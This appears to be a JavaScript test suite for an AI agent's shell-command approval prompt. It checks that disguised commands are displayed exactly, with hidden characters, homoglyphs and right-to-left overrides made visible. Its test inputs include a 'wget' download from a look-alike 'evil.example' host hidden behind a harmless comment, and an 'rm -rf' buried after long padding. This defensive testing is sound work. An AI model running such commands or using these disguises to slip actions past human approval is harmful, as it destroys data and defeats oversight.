// What somebody decides about stands there to the letter, in its order, and all of it.

import assert from 'node:assert/strict'
import { axe, conversation, scene, send, shot } from './world.js'

/** @typedef {import('./world.js').World} World */

/** @param {World} w @param {string} scope @param {string} [command] */
async function asked(w, scope, command = scope) {
  await w.open()
  await send(w.page, 'do it')
  const c = await conversation(w)
  const call = { runId: c.run, callId: 'c1', name: 'exec_shell', arguments: { command } }
  c.emit('tool_call', call)
  c.emit('approval_required', { ...call, approvalId: 'p1', scope, expiresAt: '2099-01-01T00:00:00.000Z' })
  await w.page.locator('.scope').waitFor()
  return c
}

scene('what is asked is shown to the letter: lines, what cannot be seen, what looks like another character', async (w) => {
  const scope = `exec_shell ls # only lists the files\nwget -q http://\u0435vil.example/x${' '.repeat(40)}\u202Ex\u200B`
  const c = await asked(w, scope, 'cat a\u00a0b\u202e')
  const box = w.page.locator('.scope')
  assert.equal(await box.innerText(), 'exec_shell ls # only lists the files⏎\nwget -q http://\\u{435}vil.example/x␠×40\\u{202E}x\\u{200B}')
  const look = await box.evaluate((el) => {
    const style = getComputedStyle(el)
    return { font: style.fontFamily, space: style.whiteSpace, wide: el.scrollWidth <= el.clientWidth, high: el.scrollHeight <= el.clientHeight + 1 }
  })
  assert.match(look.font, /mono/i)
  assert.deepEqual([look.space, look.wide, look.high], ['pre-wrap', true, true])
  assert.match(await w.page.locator('.tool-body pre').first().innerText(), /cat a\\u\{A0\}b\\u\{202E\}/)
  assert.deepEqual(await axe(w.page), [])
  await shot(w.page, 'scope')
  c.emit('approval_resolved', { approvalId: 'p1', decision: 'deny' })
  await w.page.getByText('Not allowed to run').waitFor()
  // As many lines as there are: nothing is folded away.
  const call = { runId: c.run, callId: 'c2', name: 'exec_shell', arguments: {} }
  c.emit('tool_call', call)
  c.emit('approval_required', { ...call, approvalId: 'p2', scope: Array.from({ length: 200 }, (_, i) => `line ${i}`).join('\n') })
  await w.page.locator('.scope', { hasText: 'line 199' }).waitFor()
  assert.ok(await w.page.locator('.scope').evaluate((el) => el.scrollHeight <= el.clientHeight + 1 && el.clientHeight > 2000))
})

// Digits, punctuation and signs of scripts that are written from right to left, at
// the borders of words and of lines, with and without words of theirs beside them.
const directions = ['cat a\u061f1/2 b', 'x \u05be 1/2 \u05f3 y', 'cp \u0663/\u0664 \u0665', 'rm \u05e9\u05dc\u05d5\u05dd/12 x', 'echo \u060c1,2\u060c 3', '1/2 \u061b 3-4', 'ls \u20aa5/6', 'rm a\u05d01b 7', '\u{10a00} 1/2 \u{10a01}',
  'a \u200f1/2', 'a \u202e1/2 b', '\u2067a 1\u2069 2', 'tar \u0661\u0662-\u0663 4', 'x\n\u061f 5/6', '(\u05d0) [\u05d1] {1}', 'a\u0600 1 2', 'rm \u07c0/\u07c1 3']

scene('nothing that is written from right to left changes the order of what is asked', async (w) => {
  await asked(w, directions.join('\n'))
  // Each character stands to the right of the one before it, or begins a line; a word in an element of its own counts as one.
  const places = await w.page.locator('.scope').evaluate((box) => {
    const found = []
    const walker = document.createTreeWalker(box, NodeFilter.SHOW_TEXT)
    for (let node = /** @type {Text|null} */ (walker.nextNode()); node; node = /** @type {Text|null} */ (walker.nextNode())) {
      const range = document.createRange()
      let end = 0
      for (const piece of node.parentElement?.localName === 'bdi' ? [node.data] : node.data) {
        range.setStart(node, end)
        range.setEnd(node, (end += piece.length))
        const at = range.getBoundingClientRect()
        if (at.width) found.push({ text: piece, left: at.left, top: Math.round(at.top) })
      }
    }
    return found
  })
  assert.ok(places.length > 150, `${places.length} characters`)
  const moved = places.filter((at, i) => i > 0 && at.left < places[i - 1].left - 0.5 && at.top < places[i - 1].top + 8)
  assert.deepEqual(moved, [])
  await shot(w.page, 'directions')
})

for (const width of [1280, 375]) {
  scene(`a very long line is there to its last letter, above the buttons, ${width} px`, async (w) => {
    const command = `echo ${'harmless words '.repeat(1500)}${'x'.repeat(6000)}${' '.repeat(4000)}; rm -rf notes \u2800\u3164 end`
    await asked(w, `exec_shell ${command}`, command)
    const box = w.page.locator('.scope')
    const text = await box.innerText()
    assert.match(text, /x{6000}␠×4000; rm -rf notes \\u\{2800\}\\u\{3164\} end$/)
    const look = await box.evaluate((el) => {
      const [pre, allow] = [el.getBoundingClientRect(), /** @type {Element} */ (document.querySelector('.asks .ask-foot')).getBoundingClientRect()]
      return { hidden: el.scrollHeight - el.clientHeight > 1 || el.scrollWidth > el.clientWidth, inWindow: pre.left >= 0 && pre.right <= innerWidth, above: allow.top >= pre.bottom }
    })
    assert.deepEqual(look, { hidden: false, inWindow: true, above: true })
  }, { width, height: 760 })
}
